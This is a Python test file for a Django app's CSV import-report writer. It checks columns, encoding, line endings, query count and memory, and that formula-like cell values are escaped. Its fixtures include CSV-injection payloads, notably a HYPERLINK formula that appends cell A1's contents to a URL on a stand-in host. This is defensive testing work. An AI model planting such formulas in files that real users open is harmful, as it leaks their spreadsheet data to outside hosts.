"""The report of an import as a spreadsheet would open it."""

import csv
import io
import tracemalloc
import uuid
from collections.abc import Iterable

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from hypothesis import given
from hypothesis import strategies as st

from jobs.models import Job, JobItem
from tenants.scope import tenant_scope
from tests.retrieval.shelf import open_shelf
from transfer.imports.report import COLUMNS, write_report

SIGNS = "=+-@\t\r\n\uff1d\uff0b\uff0d\uff20"


def read_report(items: Iterable[JobItem]) -> list[dict[str, str]]:
    """The report's rows, read as UTF-8 with a mark."""
    data = "".join(write_report(items)).encode()
    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def test_report_tells_each_item_by_column() -> None:
    image, twin, first, second = (uuid.uuid4() for _ in range(4))
    found = read_report(
        [
            JobItem(
                line=2, sku="1", name="a.jpg", state="indexed", image_id=image, conflicts=[first, second]
            ),
            JobItem(line=3, sku="1", name="b.jpg", state="duplicate", duplicate_of=twin),
            JobItem(
                line=5, sku="ä", name='c, "d".jpg', state="failed", code="row_invalid", message="No;\nbox"
            ),
        ]
    )
    empty = dict.fromkeys(COLUMNS, "")
    assert found == [
        {
            **empty,
            "line": "2",
            "sku": "1",
            "name": "a.jpg",
            "state": "indexed",
            "image": str(image),
            "conflicts": f"{first} {second}",
        },
        {**empty, "line": "3", "sku": "1", "name": "b.jpg", "state": "duplicate", "duplicate_of": str(twin)},
        {
            **empty,
            "line": "5",
            "sku": "ä",
            "name": 'c, "d".jpg',
            "state": "failed",
            "code": "row_invalid",
            "message": "No;\nbox",
        },
    ]


def test_report_of_nothing_is_its_header_with_a_mark() -> None:
    assert list(write_report([])) == [
        "\ufeffline,sku,name,state,code,message,image,duplicate_of,conflicts\r\n"
    ]


def test_report_ends_each_line_as_spreadsheets_expect() -> None:
    lines = list(write_report(JobItem(line=number, state="failed") for number in range(3)))
    assert all(line.endswith("\r\n") for line in lines)
    assert len(lines) == 4


@pytest.mark.parametrize("column", ["sku", "name", "code", "message"])
@pytest.mark.parametrize("sign", SIGNS)
def test_formula_becomes_text(column: str, sign: str) -> None:
    formula = f'{sign}HYPERLINK("http://shop.test?"&A1,"open")'
    (row,) = read_report([JobItem(line=2, state="failed", **{column: formula})])
    assert row[column] == f"'{formula}"


@pytest.mark.parametrize(
    ("text", "safe"),
    [
        ("x;=1+1", "x;'=1+1"),
        ('x\t"=1+1"', 'x\t\'"=1+1"'),
        ("x\n@SUM(A1)", "x\n'@SUM(A1)"),
        ("x;  -1", "x;'  -1"),
        ("a-b=c+d@e", "a-b=c+d@e"),
        ("a, -1; b", "a, -1; b"),
        ("plain", "plain"),
        ("", ""),
    ],
)
def test_formula_is_text_for_spreadsheets_that_part_cells_elsewhere(text: str, safe: str) -> None:
    (row,) = read_report([JobItem(line=2, state="failed", message=text)])
    assert row["message"] == safe


@given(st.text(st.characters(exclude_characters="\x00", exclude_categories=["Cs"]), max_size=60))
def test_no_cell_starts_a_formula_whichever_delimiter_parts_them(text: str) -> None:
    report = "".join(write_report([JobItem(line=2, sku=text, state="failed", message=text)]))
    for delimiter in ",;\t|":
        for cells in csv.reader(io.StringIO(report, newline=""), delimiter=delimiter):
            assert not [cell for cell in cells if cell.startswith(tuple(SIGNS[:4] + SIGNS[7:]))]


def test_report_takes_one_query_and_no_more_memory_for_more_items(rows: None) -> None:
    shelf = open_shelf("acme", state="provisioning")
    with tenant_scope(shelf.tenant.id):
        job = Job.objects.create(tenant=shelf.tenant, gallery=shelf.gallery, kind="import", trigger="t")
        JobItem.objects.bulk_create(
            (
                JobItem(tenant=shelf.tenant, job=job, line=line, state="failed", message="x" * 400)
                for line in range(1, 8001)
            ),
            batch_size=2000,
        )
        items = JobItem.objects.filter(job=job).order_by("line")
        tracemalloc.start()
        try:
            with CaptureQueriesContext(
                connection,
            ) as queries:
                lines = sum(1 for _ in write_report(items.iterator(chunk_size=200)))
            peak = tracemalloc.get_traced_memory()[1]
        finally:
            tracemalloc.stop()
        job.delete()
    assert lines == 8001
    assert len(queries) <= 1
    assert peak < 2 * 2**20
